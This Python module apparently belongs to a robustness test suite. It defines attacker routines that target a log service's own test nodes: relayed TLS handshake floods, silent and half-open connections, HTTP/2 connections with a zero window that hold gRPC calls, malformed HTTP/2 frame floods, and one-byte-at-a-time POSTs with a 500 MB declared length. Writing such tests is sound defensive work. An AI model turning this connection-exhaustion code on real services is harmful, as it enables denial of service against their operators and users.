"""Attacks that hold or waste connections: bare sockets, unfinished TLS handshakes, HTTP/2 with a window of 0.

Attacks that use `connections` go through a relay, so that they come from another address than the honest parties.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress

from support.raw_bytes import message

from attackers import connections
from attackers.attacker import Target, Victim, attacker
from attackers.calling import SOURCES, Relay, connected
from attackers.readers import Sockets

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@contextmanager
def from_elsewhere(address: str, source: str = SOURCES[0]) -> Iterator[tuple[str, int]]:
    """A host and port of this machine that forward to `address`, from another source address."""
    relay = Relay(address, source)
    host, _, port = relay.address.rpartition(":")
    try:
        yield host, int(port)
    finally:
        relay.close()


def ports(victim: Victim) -> tuple[str, str, str]:
    return victim.mutual, victim.open, victim.gateway


@attacker(
    "handshakes at the mutual port that are closed immediately",
    "K1",
    by="stranger",
    emits=lambda: [connections.client_hello()],
)
def closed_handshakes(target: Target) -> None:
    """A thousand at each victim, as fast as possible, while a vote of the others changes the pins."""
    for victim in target.victims:
        with from_elsewhere(victim.mutual) as (host, port):
            connections.brief_connections(host, port, 1_000)


@attacker("handshakes at every port, for as long as the others work", "K1", by="addresses", dear=True)
def endless_handshakes(target: Target) -> None:
    target.ready.set()
    for number in target.going_on(120):
        for victim, which in itertools.product(target.victims, range(3)):
            with from_elsewhere(ports(victim)[which], SOURCES[number % len(SOURCES)]) as (host, port):
                connections.brief_connections(host, port, 80)


@attacker("connections that stay silent, or stop within the handshake", "H6", by="addresses")
def silent_connections(target: Target) -> None:
    """A hundred and twenty at each port, from four addresses."""
    with ExitStack() as stack:
        for victim, which, source in itertools.product(target.victims, range(3), SOURCES):
            host, port = stack.enter_context(from_elsewhere(ports(victim)[which], source))
            stack.enter_context(connections.silent(host, port, 15))
            stack.enter_context(connections.silent(host, port, 15, begun=True))
        target.hold()


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def literal(name: str, value: str) -> bytes:
    """A header field of HPACK that is not indexed."""
    return b"\x00" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def call(stream: int, path: str, request: bytes) -> bytes:
    """The frames of one gRPC call."""
    fields = ((":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers"))  # fmt: skip
    headers = b"".join(literal(*field) for field in fields)
    body = b"\x00" + len(request).to_bytes(4, "big") + request
    return frame(1, 4, stream, headers) + frame(0, 1, stream, body)


def shut(streams: int, request: bytes, path: str = "/comity.v1.LogService/GetEntries") -> bytes:
    """A connection with a window of 0 and `streams` calls, whose answers can never be sent."""
    settings = frame(4, 0, 0, (4).to_bytes(2, "big") + (0).to_bytes(4, "big"))
    calls = (call(2 * number + 1, path, request) for number in range(streams))
    return PREFACE + settings + frame(4, 1, 0, b"") + b"".join(calls)


@attacker("calls whose answers can never be sent", "H5", by="addresses", emits=lambda: [shut(2, b"")])
def shut_windows(target: Target) -> None:
    """Twelve connections at each open port, with twenty calls in each, in HTTP/2 with a window of 0."""
    with Sockets() as held:
        for victim, number in itertools.product(target.victims, range(12)):
            request = message((1, victim.origin), (2, 0), (3, 65_536))
            held.open(target, victim, victim.open, shut(20, request), SOURCES[number % len(SOURCES)], tls=True)
        target.hold()


FRAMES = (
    PREFACE + frame(4, 0, 0, b"\0\x03\0\0\0\0" * 2_000),
    PREFACE + b"".join(frame(6, 0, 0, bytes(8)) for _ in range(2_000)),
    PREFACE + b"".join(frame(4, 0, 0, b"") for _ in range(2_000)),
    PREFACE + frame(4, 0, 0, b"") + frame(1, 0, 1, b"\x00\x7f" + b"x" * 127) * 200,
    PREFACE + b"".join(call(2 * at + 1, "/x", b"") + frame(3, 0, 2 * at + 1, bytes(4)) for at in range(1_000)),
    PREFACE + frame(0, 0, 0, b"x") + frame(99, 255, 7, b"?"),
    PREFACE + b"\xff\xff\xff" + bytes(6),
)
"""Floods of settings, pings and resets, a header without an end, frames in places where none are allowed."""


@attacker("unsolicited frames of HTTP/2", "own", by="stranger", emits=lambda: FRAMES)
def junk_frames(target: Target) -> None:
    for victim, sent in itertools.product(target.victims, FRAMES):
        with suppress(OSError), connected(victim.open, tls=True, patience=2) as link:
            link.sendall(sent)
            target.sent[victim.name] += len(sent)
            while link.recv(65_536):
                pass


@attacker("posts to the cosigner of one byte at a time", "M1", by="addresses")
def dribbled_posts(target: Target) -> None:
    """Twenty at each gateway, with an announced length of half a gigabyte each."""
    head = (
        b"POST /%s HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: 500000000\r\n\r\n"
    )
    with Sockets() as held:
        for victim, number in itertools.product(target.victims, range(20)):
            path = (b"tlog/add-entries", b"tlog/add-checkpoint")[number % 2]
            held.open(target, victim, victim.gateway, head % path, SOURCES[number % len(SOURCES)])
        drip(target, held.send)


def drip(target: Target, send: Callable[[bytes], None]) -> None:
    """Report that the attack is ready, and send a byte now and then until the others are done."""
    target.ready.set()
    while not target.ended.wait(0.5):
        send(b"x")
